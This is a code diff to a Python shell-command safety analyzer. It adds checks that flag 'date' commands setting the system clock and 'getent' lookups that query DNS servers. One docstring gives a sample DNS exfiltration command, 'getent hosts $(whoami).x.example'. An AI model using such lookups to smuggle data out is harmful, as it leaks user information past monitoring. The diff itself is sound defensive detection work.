@@ -13,11 +13,13 @@ from wakeful.policy.programs.options import (
     _ENDLESS_DEVICES,
     Handler,
     _has,
+    _short,
     _v,
     _vals,
     split_opts,
 )
 from wakeful.policy.programs.search import _GREP_PATTERN_OPTS, _reads_home_tree, credential_search
+from wakeful.policy.programs.sql import _is_local_name, database_host
 from wakeful.policy.programs.toolchains import framework_task
 from wakeful.policy.shell import Analyzer
 from wakeful.policy.shell_parse import SimpleCommand, Word
@@ -138,9 +140,36 @@ def _envsubst_scope(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer
         a.add(Tier.HIGH, "envsubst prints secret-looking environment variables")
 
 
+def _clock_operand(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
+    """`date MMDDhhmm[[CC]YY][.ss]` sets the system clock as `date -s` does; an operand
+    that starts with `+` is a format."""
+    for word in split_opts(args, PROGRAMS[name].takes)[1]:
+        if word.value is None or not word.value.startswith("+"):
+            a.add(Tier.HIGH, f"{name} {_short(word.text)} sets the system clock")
+
+
+# getent's databases whose keys are names that a DNS server may be asked about
+_NAME_DATABASES = frozenset({"hosts", "ahosts", "ahostsv4", "ahostsv6", "networks"})
+
+
+def _name_lookup(name: str, args: list[Word], cmd: SimpleCommand, a: Analyzer) -> None:
+    """`getent hosts NAME` asks a DNS server about a name that /etc/hosts does not hold:
+    the query itself can carry data out (`getent hosts $(whoami).x.example`)."""
+    pos = split_opts(args, PROGRAMS[name].takes)[1]
+    if not pos or pos[0].value not in _NAME_DATABASES:
+        return
+    for key in pos[1:]:
+        if key.value is None or not _is_local_name(key.value):
+            a.add(Tier.NETWORK, f"{name} {pos[0].value} {_short(key.text)} asks a DNS server")
+            return
+
+
 CHECKS: Mapping[str, Handler] = MappingProxyType(
     {
         "envsubst_scope": _envsubst_scope,
+        "clock_operand": _clock_operand,
+        "name_lookup": _name_lookup,
+        "database_host": database_host,
         "maven_exec": _maven_exec,
         "kubernetes_secrets": _kubernetes_secrets,
         "rails_tasks": _rails_tasks,
